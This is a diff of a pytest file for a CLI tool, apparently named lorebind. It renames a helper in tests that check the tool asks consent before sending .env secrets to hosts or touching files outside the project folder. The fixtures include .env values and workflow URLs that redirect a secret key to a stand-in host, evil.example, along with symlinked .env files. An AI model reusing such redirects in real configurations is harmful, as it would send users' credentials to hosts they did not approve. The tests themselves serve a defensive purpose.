@@ -143,7 +143,7 @@ embedders:
 """
 
 
-def asked(cli: Cli) -> str:
+def consent(cli: Cli) -> str:
     done = cli("ask", ".", QUESTION)
     assert done.code == 2
     return done.err
@@ -155,17 +155,17 @@ def test_a_key_goes_only_to_the_host_that_was_shown(
     """A `.env` that redirects an endpoint is asked for; its values and others are not shown."""
     empty_cli.write({"lorebind.yaml": SENDING, ".env": "BASE=https://good.example\nKEY=sesame\n"})
     says = "embedder 'far' wants to read the variable KEY, and send it to "
-    assert f"{says}good.example\n" in asked(empty_cli)
+    assert f"{says}good.example\n" in consent(empty_cli)
     assert empty_cli("trust").code == 0
     empty_cli.write({".env": "BASE=https://me:pass@evil.example:8443\nKEY=sesame\n"})
-    shown = asked(empty_cli)
-    assert f"{says}evil.example:8443\n" in shown
+    printed = consent(empty_cli)
+    assert f"{says}evil.example:8443\n" in printed
     monkeypatch.setenv("BASE", "https://private.example")
-    assert f"{says}the host in the variable BASE of your environment\n" in asked(empty_cli)
-    assert not re.search("sesame|pass|private", shown + asked(empty_cli))
+    assert f"{says}the host in the variable BASE of your environment\n" in consent(empty_cli)
+    assert not re.search("sesame|pass|private", printed + consent(empty_cli))
     monkeypatch.delenv("BASE")
     empty_cli.write({".env": "KEY=sesame\n"})
-    assert f"{says}the host in the variable BASE, which is not set\n" in asked(empty_cli)
+    assert f"{says}the host in the variable BASE, which is not set\n" in consent(empty_cli)
 
 
 @pytest.mark.parametrize(
@@ -198,9 +198,9 @@ def test_hosts_are_found_in_all_parts(empty_cli: Cli, settings: str, host: str) 
         "QUOTED=\"host = 'evil.example'\"\nJOINED=\"user='me'host=evil.example\"\n"
     )
     empty_cli.write({"lorebind.yaml": project, ".env": variables})
-    shown = asked(empty_cli)
-    assert f", and send it to {host}\n" in shown
-    assert "sesame" not in shown
+    printed = consent(empty_cli)
+    assert f", and send it to {host}\n" in printed
+    assert "sesame" not in printed
 
 
 def test_hosts_without_a_variable_are_asked_for(empty_cli: Cli) -> None:
@@ -214,9 +214,9 @@ vector_dbs:
     catalog: { dsn: "{{ .env.DSN }}" }
 """
     empty_cli.write({"lorebind.yaml": project, ".env": "DSN=postgresql://c.example/db\n"})
-    shown = asked(empty_cli)
-    assert "wants to read the variable DSN, and send it to c.example\n" in shown
-    assert "vector database 'q' wants to reach q.example\n" in shown
+    printed = consent(empty_cli)
+    assert "wants to read the variable DSN, and send it to c.example\n" in printed
+    assert "vector database 'q' wants to reach q.example\n" in printed
 
 
 def test_values_that_go_through_a_workflow_are_shown_with_the_host(empty_cli: Cli) -> None:
@@ -227,8 +227,8 @@ def test_values_that_go_through_a_workflow_are_shown_with_the_host(empty_cli: Cl
         " url: 'https://evil.example/{{ .workflow.vars.key }}' }] }]\n"
     )
     empty_cli.write({"lorebind.yaml": PROJECT, "workflows/w.yaml": workflow})
-    shown = asked(empty_cli)
-    assert "read {{ .workflow.vars.key }}, and send it to evil.example\n" in shown
+    printed = consent(empty_cli)
+    assert "read {{ .workflow.vars.key }}, and send it to evil.example\n" in printed
 
 
 @pytest.mark.parametrize(
@@ -262,10 +262,10 @@ def test_paths_that_leave_the_folder_are_asked_for(
         )
         done = empty_cli("trust", ".")
         assert done.code == 0, done.err
-        shown = f"wants to {wants} a file outside the project folder: " in done.out
+        listed = f"wants to {wants} a file outside the project folder: " in done.out
         if wants == "use" and path == "link/x":
             continue  # the meaning of settings of code is not known
-        assert shown == (path != "x"), (path, done.out)
+        assert listed == (path != "x"), (path, done.out)
 
 
 @pytest.mark.parametrize("is_own", [True, False])
@@ -280,7 +280,7 @@ def test_a_path_of_the_users_variables_is_asked_for(
     empty_cli.write(DOCUMENTS | {"lorebind.yaml": f"name: p\n{database}{bases}"})
     monkeypatch.setenv("AT", str(outside))
     says = "wants to write a file outside the project folder: {{ .env.AT }}/x.db\n"
-    assert says in asked(empty_cli)
+    assert says in consent(empty_cli)
     assert not list(outside.iterdir())
     monkeypatch.setenv("AT", "data")
     assert says not in empty_cli("ask", ".", QUESTION).err
@@ -309,8 +309,8 @@ def test_data_is_written_into_the_folder(
     """A `.lorebind` that leads elsewhere is asked for, also in a folder without a project."""
     empty_cli.write(DOCUMENTS | ({"lorebind.yaml": PROJECT} if is_project else {}))
     attack(empty_cli.root, outside)
-    shown = asked(empty_cli)
-    assert shown.startswith(
+    printed = consent(empty_cli)
+    assert printed.startswith(
         f".lorebind: the project wants to write a file outside the project folder: {outside}"
     )
     assert not list(outside.iterdir())
@@ -325,7 +325,7 @@ def test_an_env_file_elsewhere_is_asked_for(empty_cli: Cli) -> None:
     (empty_cli.root.parent / "their.env").write_text("KEY=sesame\n")
     (empty_cli.root / ".env").symlink_to(empty_cli.root.parent / "their.env")
     empty_cli.write({"lorebind.yaml": PROJECT})
-    assert asked(empty_cli).startswith(".env: the project wants to read a file outside the proj")
+    assert consent(empty_cli).startswith(".env: the project wants to read a file outside the proj")
 
 
 class Terminal:
